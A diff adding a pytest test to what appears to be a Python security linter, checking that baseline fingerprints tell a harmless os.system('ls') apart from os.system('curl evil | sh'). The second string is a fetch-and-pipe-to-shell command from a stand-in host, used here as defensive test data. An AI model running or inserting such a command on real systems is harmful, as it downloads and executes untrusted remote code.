@@ -140,3 +140,14 @@ def test_a_fingerprint_hashes_the_line_python_runs() -> None:
     for line, anchor in ((3, "os.system('id')  # \u2028 \x85"), (5, "os.system('ls')")):
         expected = replace(by_line[line], fingerprint="").with_fingerprint(anchor.strip())
         assert by_line[line].fingerprint == expected.fingerprint
+
+
+def test_findings_not_placed_keep_apart_in_a_baseline() -> None:
+    """A finding on line 0 hashes the file's text, not only its message: a baseline that
+    accepted ``os.system('ls')`` there does not accept ``os.system('curl evil | sh')``."""
+    source = b"import os\ntry:\n    pass\nexcept E :\n    pass\nos.system('ls')\n"
+    (ls,) = [f for f in check_source(source, "f.py", POLICY, BUILTIN_RULES) if f.rule == "KAV111"]
+    evil = source.replace(b"'ls'", b"'curl evil | sh'")
+    (other,) = [f for f in check_source(evil, "f.py", POLICY, BUILTIN_RULES) if f.rule == "KAV111"]
+    assert ls.line == other.line == 0
+    assert ls.fingerprint != other.fingerprint
